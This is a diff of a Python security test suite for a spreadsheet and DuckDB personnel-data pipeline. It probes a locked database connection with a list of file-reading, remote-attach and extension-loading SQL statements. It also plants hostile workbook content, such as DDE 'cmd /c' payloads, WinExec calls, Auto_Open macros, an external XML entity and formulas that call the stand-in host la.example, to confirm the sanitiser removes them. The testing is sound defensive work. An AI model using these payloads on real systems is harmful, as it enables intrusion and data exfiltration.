@@ -37,6 +37,7 @@ from openpyxl.worksheet.table import Table
 from python_calamine import CalamineWorkbook
 from test_returned import FAULT, ODD, OF_WHOLE, edited, put, related, replaced, typed
 from test_docs import LOCKED
+from test_leaving import OF_NOBODY
 
 from pipeline import recognised
 from pipeline.paths import PROJECT, Home
@@ -142,7 +143,8 @@ def _rows_of(dataset: str, kind: str, canaries: Canaries) -> list[list[str | Non
     written = [{c: clean.text_of(dataset, c, row.get(c)) for c in columns} | {"unit": None} for row in rows]
     for n, column in enumerate(columns):
         place = f"{kind}: {dataset}, column {column}"
-        said = (canaries.name(place), canaries.number(place), canaries.number(place, dotted=True), canaries.day(place))
+        day = None if column in OF_NOBODY else canaries.day(place)  # in a decision's day any day is the decision's
+        said = (canaries.name(place), canaries.number(place), canaries.number(place, dotted=True), day)
         for row, text in zip(written[4 * n :], said, strict=False):
             row[column] = text
         if column == "decision_no":
@@ -275,7 +277,7 @@ class Leaks:
         self.leaks += [f"{what}: {place}" for place in sorted(canaries.in_text("\n".join(said).encode("utf-8", "replace")))]
 
 
-def let_canaries_out(folder: Path, formats: Iterable[str] = tuple(FORMATS)) -> Leaks:
+def let_canaries_out(folder: Path, formats: Iterable[str] = tuple(FORMATS), brief: bool = False) -> Leaks:
     """Plant, then do what a city does, and look for canaries everywhere but in the archive, the restricted zone and the sender's own answer."""
     city, outside = City(folder / "data"), {name: folder / name for name in ("temporary", "cache")}
     for place in outside.values():
@@ -298,14 +300,14 @@ def let_canaries_out(folder: Path, formats: Iterable[str] = tuple(FORMATS)) -> L
         ["Mã đơn vị", "Bộ dữ liệu", "Tên cột của đơn vị", "Nghĩa là cột", "Ngày xác nhận"],
         ["Q01.001", "ratings", canaries.all_of("csv: ratings, unknown header"), "", "10/12/2021"],
     ])  # fmt: skip
-    said.append(run("load", first=ALL_CHANGED))
-    said.append(run("load", first=GONE))
-    said += [run("receipts"), run("verify"), run("backup", str(folder / "backup")), run("template", "--unit", "Q01.003", "--period", "2022")]
-    said.append(lost_bytes(home, run))
+    said.append(run("load", first=ALL_CHANGED + GONE))
+    said += [] if brief else [run("receipts"), run("verify"), run("backup", str(folder / "backup")), run("template", "--unit", "Q01.003", "--period", "2022")]
+    said.append(lost_bytes(home, run, brief))
     leaks.places = len(canaries.places)
     leaks.planted |= set(found_below(canaries, home.raw))
-    checked = next((home.raw / "2022" / "Q01.001").glob("*.xlsx"))
-    run("check", str(checked), "--period", "2022", "--unit", "Q01.001", fails=True)  # its answer is its owner's
+    if not brief:
+        checked = next((home.raw / "2022" / "Q01.001").glob("*.xlsx"))
+        run("check", str(checked), "--period", "2022", "--unit", "Q01.001", fails=True)  # its answer is its owner's
     leaks.read("what commands say", canaries, *said)
     leaks.look("versions and exports", canaries, home.versions)
     leaks.look("Dagster's folder", canaries, home.dagster)
@@ -353,7 +355,7 @@ import pathlib, os
 """
 
 
-def lost_bytes(home: Home, run: Callable[..., str]) -> str:
+def lost_bytes(home: Home, run: Callable[..., str], brief: bool) -> str:
     """The archive lost everything, and has to read it again: what the load says of it. All is put back."""
     kept = home.root / "kept"
     kept.mkdir()
@@ -368,4 +370,429 @@ def lost_bytes(home: Home, run: Callable[..., str]) -> str:
     for place in away:
         shutil.rmtree(place, ignore_errors=True)
         (kept / place.name).rename(place)
-    return said + run("load")
+    return said if brief else said + run("load")
+
+
+# ── who could be told from all others ────────────────────────────────────────────────────────────────────────────
+
+
+def singled_out(home: Home) -> tuple[dict[str, recognised.Shares], float]:
+    """Per published table the two figures of a load; and the share of all persons who stand alone with all that any table says of them, joined
+    over the person and over the row that findings speak of."""
+    with duckdb.connect() as db:
+        db.execute(f"ATTACH '{home.published.resolve()}' AS published (READ_ONLY)")
+        shares = recognised.shares(db, "published")
+        parts = []
+        for table in shares:
+            columns = [c for c, *_ in db.execute(f"DESCRIBE published.{table}").fetchall()]
+            said = ", ".join(c for c in columns if c not in recognised.OF_THE_ROW | {"person_key"})
+            parts.append(f"SELECT person_key, hash('{table}', {said}) AS said FROM published.{table} WHERE person_key IS NOT NULL")
+            if {"submission_key", "sheet_no", "row_no"} <= set(columns):
+                parts.append(f"""SELECT person_key, hash('{table}', f.rule_code, f.column_name) FROM published.{table} AS t
+                    JOIN published.quality.findings AS f ON f.submission_key = t.submission_key AND f.row_no = t.row_no
+                        AND f.sheet_no IS NOT DISTINCT FROM t.sheet_no WHERE person_key IS NOT NULL""")
+        alone, persons = db.execute(f"""
+            WITH people AS (SELECT person_key, hash(count(*), sum(said), bit_xor(said)) AS said FROM ({" UNION ALL ".join(parts)}) GROUP BY 1),
+            crowd AS (SELECT count(*) AS size FROM people GROUP BY said)
+            SELECT sum(CASE WHEN size = 1 THEN 1 ELSE 0 END), sum(size) FROM crowd""").fetchone()
+    return shares, alone / persons
+
+
+# ── SQL on the published file ────────────────────────────────────────────────────────────────────────────────────
+
+SECRET = "bi-mat-cua-may"
+# Not asked: CALL enable_logging(storage = 'file', storage_config = {'path': …}), at which DuckDB 1.5 refuses to write and ends the asker's process.
+SQL = """
+SELECT * FROM read_text('{folder}/a.txt')
+SELECT * FROM read_blob('{folder}/a.txt')
+SELECT * FROM read_csv('{folder}/a.csv')
+SELECT * FROM read_csv_auto('{folder}/a.csv')
+SELECT * FROM sniff_csv('{folder}/a.csv')
+SELECT * FROM read_json('{folder}/a.json')
+SELECT * FROM read_json_objects('{folder}/a.json')
+SELECT * FROM read_ndjson('{folder}/a.json')
+SELECT * FROM read_parquet('{folder}/a.parquet')
+SELECT * FROM parquet_scan('{folder}/a.parquet')
+SELECT * FROM parquet_metadata('{folder}/a.parquet')
+SELECT * FROM parquet_schema('{folder}/a.parquet')
+SELECT * FROM parquet_kv_metadata('{folder}/a.parquet')
+SELECT * FROM parquet_file_metadata('{folder}/a.parquet')
+SELECT * FROM '{folder}/a.csv'
+SELECT * FROM '{folder}/a.parquet'
+SELECT * FROM "{folder}/a.csv"
+SELECT * FROM '{folder}/a.json'
+FROM glob('{folder}/*')
+FROM glob('/*')
+SELECT * FROM query('SELECT * FROM read_text(''{folder}/a.txt'')')
+SELECT * FROM query_table('{folder}/a.csv')
+SELECT getenv('HOME')
+ATTACH '{folder}/a.duckdb' AS other
+ATTACH '{folder}/a.duckdb' AS other (READ_ONLY)
+ATTACH '{folder}/new.duckdb'
+ATTACH 'https://example.org/x.duckdb' AS far
+ATTACH '{folder}/a.sqlite' AS lite (TYPE sqlite)
+ATTACH ':memory:' AS mine; CREATE TABLE mine.t AS SELECT * FROM read_text('{folder}/a.txt')
+DETACH personnel
+USE memory
+CREATE TABLE t AS SELECT 1
+CREATE TEMP TABLE t AS SELECT * FROM read_text('{folder}/a.txt')
+CREATE VIEW v AS SELECT * FROM read_text('{folder}/a.txt')
+CREATE MACRO m() AS TABLE SELECT * FROM read_text('{folder}/a.txt')
+CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')
+CREATE PERSISTENT SECRET s (TYPE http)
+INSERT INTO core.dim_date SELECT * FROM core.dim_date
+UPDATE core.dim_person SET sex_code = NULL
+DELETE FROM core.dim_person
+DROP TABLE core.dim_person
+ALTER TABLE core.dim_person ADD COLUMN x INTEGER
+COMMENT ON TABLE core.dim_person IS 'x'
+VACUUM
+CHECKPOINT
+FORCE CHECKPOINT
+COPY core.dim_person TO '{folder}/new.csv'
+COPY core.dim_person TO '{folder}/new.parquet' (FORMAT parquet)
+COPY (SELECT 1) TO '/dev/stdout'
+COPY core.dim_person FROM '{folder}/a.csv'
+COPY FROM DATABASE personnel TO memory
+EXPORT DATABASE '{folder}/new'
+IMPORT DATABASE '{folder}'
+INSTALL httpfs
+LOAD httpfs
+FORCE INSTALL json
+LOAD '{folder}/a.duckdb_extension'
+INSTALL '{folder}/a.duckdb_extension'
+SELECT * FROM read_csv('https://example.org/a.csv')
+SELECT * FROM read_parquet('s3://a/b.parquet')
+SET enable_external_access = true
+RESET enable_external_access
+SET GLOBAL enable_external_access = true
+PRAGMA enable_external_access = true
+SET lock_configuration = false
+RESET lock_configuration
+SET allowed_directories = ['/']
+SET allowed_paths = ['{folder}/a.txt']
+SET access_mode = 'READ_WRITE'
+SET temp_directory = '{folder}/new'
+SET home_directory = '{folder}'
+SET secret_directory = '{folder}'
+SET extension_directory = '{folder}'
+SET custom_extension_repository = 'http://example.org'
+SET allow_unsigned_extensions = true
+SET autoinstall_known_extensions = true
+SET log_query_path = '{folder}/new.log'
+SET enable_logging = true
+SET profiling_output = '{folder}/new.json'
+SET file_search_path = '{folder}'
+SET default_secret_storage = 'x'
+SET python_enable_replacements = true
+PRAGMA enable_profiling = 'json'
+PRAGMA profiling_output = '{folder}/new.json'
+CALL pragma_version()
+EXPLAIN ANALYZE SELECT * FROM read_text('{folder}/a.txt')
+PREPARE p AS SELECT * FROM read_text(?); EXECUTE p('{folder}/a.txt')
+SELECT * FROM duckdb_secrets()
+SELECT * FROM which_secret('{folder}/a.txt', 's3')
+SELECT content FROM read_text(['{folder}/a.txt'])
+SELECT (SELECT content FROM read_text('{folder}/a.txt'))
+WITH x AS (SELECT * FROM read_blob('{folder}/*')) SELECT * FROM x
+PIVOT read_text('{folder}/a.txt') ON filename USING count(*)
+SUMMARIZE SELECT * FROM read_text('{folder}/a.txt')
+DESCRIBE SELECT * FROM '{folder}/a.parquet'
+SELECT json_execute_serialized_sql(json_serialize_sql('SELECT * FROM read_text(''{folder}/a.txt'')'))
+FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM read_text(''{folder}/a.txt'')'))
+""".strip().splitlines()
+
+
+@dataclass
+class Asked:
+    """How the published file took it."""
+
+    tries: int = 0
+    works_unlocked: int = 0  # of them bring or change something where the connection is not locked: the attack is none of paper
+    leaks: list[str] = field(default_factory=list)
+
+
+def ask_for_files(home: Home, folder: Path) -> Asked:
+    """Every attack on the connection that docs/analysts.md recommends, and on a copy of the file without its locks."""
+    asked, bait = Asked(), folder / "bait"
+    _lay(bait)
+    copy = folder / "copy" / "personnel.duckdb"
+    copy.parent.mkdir()
+    shutil.copy(home.published.resolve(), copy)
+    published, before = home.published.resolve(), _lying(bait, home.published.resolve().parent)
+    for attack in SQL:
+        asked.tries += 1
+        with duckdb.connect(str(published), read_only=True, config=LOCKED) as db:
+            if _brings(db, attack.format(folder=bait)):
+                asked.leaks.append(f"read: {attack}")
+        if _lying(bait, published.parent) != before:
+            asked.leaks.append(f"written: {attack}")
+            before = _lying(bait, published.parent)
+    for attack in SQL:
+        if "http" in attack or "s3:" in attack or "INSTALL" in attack or "LOAD" in attack:
+            continue  # nothing outside the machine is asked
+        kept = _lying(bait, copy.parent)
+        with duckdb.connect(str(copy), config={"autoinstall_known_extensions": False, "threads": 1}) as db:
+            asked.works_unlocked += _brings(db, "BEGIN; " + attack.format(folder=bait) if attack.startswith("DROP") else attack.format(folder=bait)) or (
+                _lying(bait, copy.parent) != kept
+            )
+    return asked
+
+
+def _lay(bait: Path) -> None:
+    """Files whose content shows in any answer."""
+    bait.mkdir()
+    for name, text in {"a.txt": SECRET, "a.csv": f"a,b\n{SECRET},1\n", "a.json": f'{{"a": "{SECRET}"}}', "a.duckdb_extension": SECRET}.items():
+        (bait / name).write_text(text)
+    (bait / "schema.sql").write_text(f"CREATE TEMP TABLE t AS SELECT '{SECRET}' AS a")
+    (bait / "load.sql").write_text("")
+    pl.DataFrame({SECRET: [SECRET]}).write_parquet(bait / "a.parquet")
+    with duckdb.connect(str(bait / "a.duckdb")) as db:
+        db.execute(f"CREATE TABLE t AS SELECT '{SECRET}' AS a")
+    with sqlite3.connect(bait / "a.sqlite") as db:
+        db.execute("CREATE TABLE t (a)")
+
+
+def _brings(db: duckdb.DuckDBPyConnection, attack: str) -> bool:
+    """Whether something of the machine comes back: a bait's content or name, or what stands in a database that came beside."""
+    try:
+        said = str(db.execute(attack).fetchall())
+        for name, table in db.execute("SELECT database_name, table_name FROM duckdb_tables() WHERE database_name <> 'personnel'").fetchall():
+            said += str(db.execute(f'SELECT * FROM "{name}"."{table}"').fetchall())
+    except (duckdb.Error, OSError, UnicodeDecodeError):
+        return False
+    return SECRET in said or "/bait/" in said or "/etc" in said
+
+
+def _lying(*folders: Path) -> dict[str, tuple[int, int]]:
+    return {str(f): (f.stat().st_size, f.stat().st_mtime_ns) for folder in folders for f in folder.rglob("*") if f.is_file()}
+
+
+# ── active content ───────────────────────────────────────────────────────────────────────────────────────────────
+
+MAIN, OFFICE = (active.MAIN[1:-1], active.LINK[1:-1])
+OUTSIDE = "http://la.example/x"
+Parts = dict[str, bytes]
+SHEET, BOOK, TYPES = "xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml"
+
+
+def _in_sheet(text: str) -> Callable[[Parts], None]:
+    return replaced(SHEET, "</worksheet>", f"{text}</worksheet>")
+
+
+def _in_book(text: str) -> Callable[[Parts], None]:
+    return replaced(BOOK, "</workbook>", f"{text}</workbook>")
+
+
+def _part(name: str, text: str, kind: str, source: str = SHEET, content_type: str = "", outside: str = "") -> Callable[[Parts], None]:
+    """A part, what it is, and a relation to it; where it leads outside, a relation of its own."""
+
+    def edit(parts: Parts) -> None:
+        put(name, text)(parts)
+        typed(name, content_type or f"application/vnd.openxmlformats-officedocument.spreadsheetml.{kind}+xml")(parts)
+        folder = source.rpartition("/")[0]
+        related(source, kind if kind.startswith("http") else f"{OFFICE}/{kind}", os.path.relpath(name, folder))(parts)
+        if outside:
+            related(name, f"{OFFICE}/{outside}", OUTSIDE, external=True)(parts)
+
+    return edit
+
+
+def _all(*edits: Callable[[Parts], None]) -> Callable[[Parts], None]:
+    def edit(parts: Parts) -> None:
+        for one in edits:
+            one(parts)
+
+    return edit
+
+
+def _link(target: str) -> Callable[[Parts], None]:
+    return _all(
+        related(SHEET, f"{OFFICE}/hyperlink", target, external=True),
+        replaced(SHEET, "<pageMargins", f'<hyperlinks><hyperlink xmlns:r="{OFFICE}" ref="A4" r:id="rOut"/></hyperlinks><pageMargins'),
+    )
+
+
+def _called(text: str) -> Callable[[Parts], None]:
+    """A formula of a cell that had none."""
+    return replaced(SHEET, "<v>86</v>", f"<f>{text}</f><v>86</v>")
+
+
+def _in_utf16(name: str) -> Callable[[Parts], None]:
+    return lambda parts: parts.update({name: parts[name].decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")})
+
+
+DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"
+PICTURE = (
+    f'<xdr:wsDr xmlns:xdr="{DRAWING}/spreadsheetDrawing" xmlns:a="{DRAWING}/main" xmlns:r="{OFFICE}"><xdr:twoCellAnchor><xdr:pic><xdr:nvPicPr>'
+    f'<xdr:cNvPr id="2" name="a"><a:hlinkClick r:id="rOut"/></xdr:cNvPr></xdr:nvPicPr><xdr:blipFill><a:blip r:link="rOut"/></xdr:blipFill></xdr:pic>'
+    "</xdr:twoCellAnchor></xdr:wsDr>"
+)
+SHAPE = (
+    '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">'
+    f'<v:shape id="s" href="{OUTSIDE}"><v:imagedata src="{OUTSIDE}"/><x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!chay</x:FmlaMacro>'
+    "</x:ClientData></v:shape></xml>"
+)
+X14 = 'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"'
+MORE: dict[str, Callable[[Parts], None]] = {
+    **{f"a link to {target}": _link(target) for target in (
+        "file:///etc/hostname", "\\\\la.example\\chia-se\\x", "smb://la.example/x", "javascript:alert(1)", "ms-excel:ofe|u|http://la.example/x", "mailto:a@la.example",
+    )},
+    **{f"the formula {text[:24]}": _called(text) for text in (
+        f'WEBSERVICE("{OUTSIDE}")', f'HYPERLINK("{OUTSIDE}")', f'_xlfn.IMAGE("{OUTSIDE}")', f'FILTERXML(_xlfn.WEBSERVICE("{OUTSIDE}"),"//a")',
+        'RTD("la.example",,"x")', 'CALL("kernel32","WinExec","JC","calc")', 'REGISTER.ID("a","b")', 'SQL.REQUEST("la.example")',
+        'CUBEVALUE("la.example")', "W&#69;BSERVICE(&quot;http://la.example&quot;)", "'[la.example.xlsx]S'!A1", "DDE(\"la.example\",\"x\",\"y\")",
+        '_xll.LAEXAMPLE(1)', 'INDIRECT("[la.example.xlsx]S!A1")', 'CELL("filename")', '_xlfn._xlws.PY(0,0)', "+cmd|' /c la.example'!A0",
+        '_xlfn.STOCKHISTORY("la.example")', '_xlfn.LAMBDA(_xlpm.x,WEBSERVICE(_xlpm.x))("http://la.example")',
+    )},
+    "a shared formula": replaced(SHEET, "<v>86</v>", f'<f t="shared" ref="C4:C5" si="0">WEBSERVICE("{OUTSIDE}")</f><v>86</v>'),
+    "a picture that lies elsewhere": _all(
+        _part("xl/drawings/drawing1.xml", PICTURE, "drawing", content_type="application/vnd.openxmlformats-officedocument.drawing+xml", outside="image"),
+        _in_sheet(f'<drawing xmlns:r="{OFFICE}" r:id="rOut"/>'),
+    ),
+    "a shape that is clicked": _all(
+        _part("xl/drawings/vml9.vml", SHAPE, "vmlDrawing", content_type="application/vnd.openxmlformats-officedocument.vmlDrawing"),
+        _in_sheet(f'<legacyDrawing xmlns:r="{OFFICE}" r:id="rOut"/>'),
+    ),
+    "a header's picture": _all(
+        _part("xl/drawings/vml8.vml", SHAPE, "vmlDrawing", content_type="application/vnd.openxmlformats-officedocument.vmlDrawing"),
+        _in_sheet(f'<legacyDrawingHF xmlns:r="{OFFICE}" r:id="rOut"/>'),
+    ),
+    "a control": _all(
+        _part("xl/activeX/activeX1.xml", '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{la.example}"/>', "control",
+              content_type="application/vnd.ms-office.activeX+xml"),
+        _in_sheet(f'<controls><control xmlns:r="{OFFICE}" shapeId="1" r:id="rOut" name="a"/></controls>'),
+    ),
+    "DDE in an external book": _part(
+        "xl/externalLinks/externalLink1.xml",
+        f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c la.example"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>',
+        "externalLink", BOOK, outside="externalLinkPath"),
+    "OLE in an external book": _part(
+        "xl/externalLinks/externalLink2.xml",
+        f'<externalLink xmlns="{MAIN}"><oleLink xmlns:r="{OFFICE}" r:id="rOut" progId="la.example"/></externalLink>', "externalLink", BOOK, outside="oleObject"),
+    "a web query": _all(
+        _part("xl/connections.xml", f'<connections xmlns="{MAIN}"><connection id="1" type="4"><webPr url="{OUTSIDE}"/></connection></connections>', "connections", BOOK),
+        _part("xl/queryTables/queryTable1.xml", f'<queryTable xmlns="{MAIN}" name="a" connectionId="1" refreshOnLoad="1"/>', "queryTable"),
+    ),
+    "a ribbon": _part("customUI/customUI14.xml", '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="la.example"/>',
+                      "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", BOOK, "application/xml"),
+    "an add-in": _part("xl/webextensions/taskpanes.xml", f'<a xmlns="la.example">{OUTSIDE}</a>',
+                       "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", BOOK, "application/vnd.ms-office.webextensiontaskpanes+xml"),
+    "a macro sheet": _all(
+        _part("xl/macrosheets/sheet1.xml", f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{MAIN}"><sheetData><row r="1"><c r="A1"><f>EXEC("la.example")</f></c></row></sheetData></xm:macrosheet>',
+              "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", BOOK, "application/vnd.ms-excel.macrosheet+xml"),
+        replaced(BOOK, "</sheets>", f'<sheet xmlns:r="{OFFICE}" name="Chạy" sheetId="7" state="veryHidden" r:id="rOut"/></sheets>'),
+    ),
+    "a name that opens": replaced(BOOK, "<definedName ", '<definedName name="_xlnm.Auto_Open">EXEC("la.example")</definedName><definedName '),
+    "a name of another book": replaced(BOOK, "<definedName ", '<definedName name="xa">[1]S!$A$1</definedName><definedName '),
+    "macros": _all(_part("xl/vbaProject.bin", "la.example", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", BOOK, "application/vnd.ms-office.vbaProject"),
+                   replaced(TYPES, "spreadsheetml.sheet.main+xml", "spreadsheetml.sheet.main+xml")),
+    "a pivot that asks": _part("xl/pivotCache/pivotCacheDefinition1.xml", f'<pivotCacheDefinition xmlns="{MAIN}" refreshOnLoad="1"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>',
+                               "pivotCacheDefinition", BOOK),
+    "a picture in a cell": _part("xl/richData/rdRichValueWebImage.xml", f'<webImagesSrd xmlns="{MAIN}">{OUTSIDE}</webImagesSrd>',
+                                 "http://schemas.microsoft.com/office/2020/07/relationships/rdRichValueWebImage", BOOK, "application/vnd.ms-excel.rdrichvaluewebimage+xml"),
+    "real-time data": _part("xl/volatileDependencies.xml", f'<volTypes xmlns="{MAIN}"><volType type="realTimeData"><main first="la.example"/></volType></volTypes>', "volatileDependencies", BOOK),
+    "publishing": _in_sheet(f'<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet" destinationFile="{OUTSIDE}"/></webPublishItems>'),
+    "groups of functions": _in_book('<functionGroups><functionGroup name="la.example"/></functionGroups>'),
+    "a sparkline": _in_sheet(f'<extLst><ext uri="{{2}}" {X14}><x14:sparklineGroups><x14:sparklineGroup><x14:sparklines><x14:sparkline><xm:f>[1]la.example!A1</xm:f></x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext></extLst>'),
+    "a colour rule of 2010": _in_sheet(f'<extLst><ext uri="{{3}}" {X14}><x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type="expression"><xm:f>WEBSERVICE("{OUTSIDE}")</xm:f></x14:cfRule></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>'),
+    "a bar whose length is asked for": replaced(SHEET, "<conditionalFormatting ", f'<conditionalFormatting sqref="C4"><cfRule type="dataBar" priority="9"><dataBar><cfvo type="formula" val="WEBSERVICE(&quot;{OUTSIDE}&quot;)"/><cfvo type="max"/><color rgb="FF00FF00"/></dataBar></cfRule></conditionalFormatting><conditionalFormatting '),
+    "an entity": replaced(SHEET, "<worksheet", f'<!DOCTYPE worksheet [<!ENTITY e SYSTEM "{OUTSIDE}">]><worksheet'),
+    "a style sheet": replaced(SHEET, "<worksheet", f'<?xml-stylesheet type="text/xsl" href="{OUTSIDE}"?><worksheet'),
+    "properties that are linked": _part("docProps/custom.xml", f'<Properties xmlns="a"><property linkTarget="{OUTSIDE}"/></Properties>', "custom-properties", BOOK, "application/vnd.openxmlformats-officedocument.custom-properties+xml"),
+    "the book in UTF-16": _in_utf16(BOOK),
+    "styles in UTF-16": _in_utf16("xl/styles.xml"),
+    "a template from elsewhere": related("xl/workbook.xml", f"{OFFICE}/attachedTemplate", OUTSIDE, external=True),
+    "a frame of another file": related("xl/worksheets/sheet1.xml", f"{OFFICE}/package", OUTSIDE, external=True),
+}  # fmt: skip
+# What is done to the zip itself: bytes that belong to no part, a part twice.
+PACKED: dict[str, Callable[[bytes], bytes]] = {
+    "as it is": lambda data: data,
+    "something before it": lambda data: _shifted(data, odd_files.package({"xl/vbaProject.bin": b"la.example"})[:-22]),
+    "something behind it": lambda data: data + b"la.example",
+    "a comment": lambda data: data[:-2] + b"\x0a\0la.example",
+    "a part twice": lambda data: _twice(data),
+}
+
+
+def _shifted(data: bytes, before: bytes) -> bytes:
+    """The same zip behind other bytes, its list of parts corrected by whoever writes it anew at that place."""
+    out = io.BytesIO(before)
+    out.seek(len(before))
+    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "a") as new:
+        for name in old.namelist():
+            new.writestr(name, old.read(name))
+    return out.getvalue()
+
+
+def _twice(data: bytes) -> bytes:
+    out = io.BytesIO(data)
+    with zipfile.ZipFile(out, "a") as new:
+        new.writestr("xl/Worksheets/Sheet1.xml", f'<worksheet xmlns="{MAIN}"><sheetData/><oleObjects/></worksheet>')
+    return out.getvalue()
+
+
+@dataclass
+class Sent:
+    """Workbooks sent and what came of them."""
+
+    tries: int = 0
+    kinds: set[str] = field(default_factory=set)
+    ends: dict[str, int] = field(default_factory=dict)  # as it came, marked, only values, refused
+    leaks: list[str] = field(default_factory=list)
+
+
+def send_active(count: int, folder: Path, seed: int = 1) -> Sent:
+    """Workbooks of one to four kinds of active content, by chance; what goes back is looked through and opened."""
+    rng, sent, kinds = random.Random(seed), Sent(), {**ODD, **MORE}
+    for number in range(count):
+        chosen = rng.sample(list(kinds), rng.choice((1, 1, 2, 3, 4))) if number >= len(kinds) else [list(kinds)[number]]
+        packed = rng.choice(list(PACKED)) if rng.random() < 0.2 else "as it is"
+        data, used = _made_of({kind: kinds[kind] for kind in chosen})
+        data = PACKED[packed](data)
+        words = [*used, *([packed] if packed != "as it is" else [])]
+        if not active.problems(data):
+            continue  # one kind took the other's place
+        sent.tries += 1
+        sent.kinds |= set(words)
+        faults = (FAULT,) if rng.random() < 0.5 else ()
+        end, leaks = _given_back(data, folder, faults)
+        sent.ends[end] = sent.ends.get(end, 0) + 1
+        sent.leaks += [f"{' + '.join(words)} ({'marked' if faults else 'faultless'}): {leak}" for leak in leaks]
+    return sent
+
+
+def _made_of(edits: dict[str, Callable[[Parts], None]]) -> tuple[bytes, list[str]]:
+    """A workbook with these, as far as they go together; each leads to parts under names of its own."""
+    used: list[str] = []
+
+    def edit(parts: Parts) -> None:
+        for n, (kind, one) in enumerate(edits.items()):
+            tried = dict(parts)
+            try:
+                one(tried)
+            except (AssertionError, KeyError, UnicodeDecodeError):
+                continue  # what it would be put into is another's already
+            parts.clear()
+            parts.update({name: text.replace(b"rOut", b"rOut%d" % n) for name, text in tried.items()})
+            used.append(kind)
+
+    return edited(edit, whole=True), used
+
+
+def _given_back(data: bytes, folder: Path, faults: tuple) -> tuple[str, list[str]]:
+    source, target = folder / "sent", folder / "back.xlsx"
+    source.write_bytes(data)
+    target.unlink(missing_ok=True)
+    try:
+        became = give_back(Job(source, "bao-cao.xlsx", target, faults, ()))
+    except Exception as error:
+        return f"a summary alone ({type(error).__name__})", []
+    back = target.read_bytes()
+    leaks = active.problems(back)
+    with zipfile.ZipFile(io.BytesIO(back)) as parts:
+        leaks += [f"{name} speaks of la.example" for name in parts.namelist() if b"la.example" in parts.read(name).replace(b"\0", b"")]
+    book, grid = openpyxl.load_workbook(io.BytesIO(back)), CalamineWorkbook.from_filelike(io.BytesIO(back))
+    if book.sheetnames != grid.sheet_names or "Nguyễn Văn 2" not in str(grid.get_sheet_by_index(0).to_python()):
+        leaks.append("its cells are not what they were")
+    return {None: "its formulas stay", "frozen": "values for formulas", "values": "values alone"}[became], leaks
